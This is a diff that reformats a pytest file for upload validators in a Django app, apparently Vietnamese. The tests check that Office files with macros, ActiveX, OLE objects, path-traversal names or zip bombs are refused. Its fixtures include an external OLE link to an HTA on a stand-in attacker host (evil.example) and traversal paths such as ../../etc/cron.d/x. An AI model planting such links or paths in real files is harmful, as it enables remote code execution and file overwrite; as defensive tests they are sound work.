@@ -14,16 +14,22 @@ from django.urls import reverse
 from thidua.core.uploads import validate_evidence, validate_spreadsheet
 from thidua.plans.loading import load_plan
 
-CONTENT_TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-                 '<Override PartName="/{part}" ContentType="{kind}"/></Types>')
+CONTENT_TYPES = (
+    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Override PartName="/{part}" ContentType="{kind}"/></Types>'
+)
 DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
-OLE_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-            '<Relationship Id="rId9" TargetMode="External" Target="http://evil.example/x.hta" '
-            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>')
-LINK_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-             '<Relationship Id="rId1" TargetMode="External" Target="https://stp.tuyenquang.gov.vn" '
-             'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>')
+OLE_RELS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId9" TargetMode="External" Target="http://evil.example/x.hta" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>'
+)
+LINK_RELS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" TargetMode="External" Target="https://stp.tuyenquang.gov.vn" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
+)
 
 
 def office(*extra: tuple[str, bytes | str], prefix="word/", kind=DOCX_MAIN) -> bytes:
@@ -44,40 +50,66 @@ def refusal(name: str, content: bytes, check=validate_evidence) -> str:
     return message
 
 
-@pytest.mark.parametrize(("name", "content"), [
-    ("bao-cao.docx", office(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
-    ("doi-duoi.docx", office(kind=DOCM_MAIN)),
-    ("so-lieu.xlsx", office(("xl/vbaProject.bin", b"x"), prefix="xl/",
-                            kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
-    ("excel4.xlsx", office(("xl/macrosheets/sheet1.xml", "<x/>"), prefix="xl/")),
-    ("trinh-chieu.pptx", office(("ppt/vbaProject.bin", b"x"), prefix="ppt/")),
-])
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("bao-cao.docx", office(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
+        ("doi-duoi.docx", office(kind=DOCM_MAIN)),
+        (
+            "so-lieu.xlsx",
+            office(
+                ("xl/vbaProject.bin", b"x"), prefix="xl/", kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+            ),
+        ),
+        ("excel4.xlsx", office(("xl/macrosheets/sheet1.xml", "<x/>"), prefix="xl/")),
+        ("trinh-chieu.pptx", office(("ppt/vbaProject.bin", b"x"), prefix="ppt/")),
+    ],
+)
 def test_macros_are_refused(name, content):
     message = refusal(name, content)
     assert "có chứa macro" in message and "không có macro" in message
 
 
 def test_activex_controls_are_refused():
-    message = refusal("bieu-mau.docx", office(("word/activeX/activeX1.xml", "<ax/>"),
-                                              ("word/activeX/activeX1.bin", b"x")))
+    message = refusal(
+        "bieu-mau.docx", office(("word/activeX/activeX1.xml", "<ax/>"), ("word/activeX/activeX1.bin", b"x"))
+    )
     assert "điều khiển ActiveX" in message
 
 
-@pytest.mark.parametrize(("name", "content"), [
-    ("nhung.pptx", office(("ppt/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), prefix="ppt/")),
-    ("lien-ket.docx", office(("word/_rels/document.xml.rels", OLE_RELS))),
-])
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("nhung.pptx", office(("ppt/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), prefix="ppt/")),
+        ("lien-ket.docx", office(("word/_rels/document.xml.rels", OLE_RELS))),
+    ],
+)
 def test_ole_objects_embedded_or_linked_are_refused(name, content):
     assert "đối tượng OLE" in refusal(name, content)
 
 
 def test_a_chart_workbook_and_hyperlinks_are_not_active_content():
-    validate_evidence(SimpleUploadedFile("bieu-do.docx", office(
-        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK"), ("word/_rels/document.xml.rels", LINK_RELS))))
+    validate_evidence(
+        SimpleUploadedFile(
+            "bieu-do.docx",
+            office(
+                ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK"), ("word/_rels/document.xml.rels", LINK_RELS)
+            ),
+        )
+    )
 
 
-@pytest.mark.parametrize("member", ["../../etc/cron.d/x", "word/../../x.xml", "/etc/passwd", "C:/Windows/x.dll",
-                                    "\\\\server\\share\\x", "word\\..\\..\\x"])
+@pytest.mark.parametrize(
+    "member",
+    [
+        "../../etc/cron.d/x",
+        "word/../../x.xml",
+        "/etc/passwd",
+        "C:/Windows/x.dll",
+        "\\\\server\\share\\x",
+        "word\\..\\..\\x",
+    ],
+)
 def test_member_paths_that_leave_the_folder_are_refused(member):
     message = refusal("duong-dan.docx", office((member, "x")))
     assert "đường dẫn không hợp lệ" in message and member[:20] in message
@@ -99,6 +131,7 @@ def test_a_zip_that_unpacks_past_ten_times_the_limit_is_refused_without_decompre
 
     def never(*args, **kwargs):
         raise AssertionError("a member was decompressed")
+
     monkeypatch.setattr(zipfile.ZipFile, "open", never)
     message = refusal("bom.docx", content)  # ...that declares 11 MB unpacked
     assert "khi giải nén nặng 11 MB, vượt mức cho phép 10 MB" in message
@@ -125,8 +158,9 @@ def test_legacy_office_formats_are_not_taken():
 
 
 def test_spreadsheets_to_import_get_the_same_checks():
-    assert "có chứa macro" in refusal("nhap.xlsx", office(("xl/vbaProject.bin", b"x"), prefix="xl/"),
-                                      check=validate_spreadsheet)
+    assert "có chứa macro" in refusal(
+        "nhap.xlsx", office(("xl/vbaProject.bin", b"x"), prefix="xl/"), check=validate_spreadsheet
+    )
     validate_spreadsheet(SimpleUploadedFile("khong-phai-zip.xlsx", b"junk"))  # left to the import to explain
 
 
@@ -137,6 +171,7 @@ def test_the_import_pages_refuse_a_workbook_with_macros(org, client_for):
     client = client_for(org.users.officer)
     page = client.post(reverse("import_organization"), {"file": SimpleUploadedFile("don-vi.xlsx", content)})
     assert "Tệp «don-vi.xlsx» có chứa macro" in page.content.decode()
-    page = client.post(reverse("indicator_values_import", args=[org.units.a.pk]),
-                       {"file": SimpleUploadedFile("so-lieu.xlsx", content)})
+    page = client.post(
+        reverse("indicator_values_import", args=[org.units.a.pk]), {"file": SimpleUploadedFile("so-lieu.xlsx", content)}
+    )
     assert "Tệp «so-lieu.xlsx» có chứa macro" in page.content.decode()
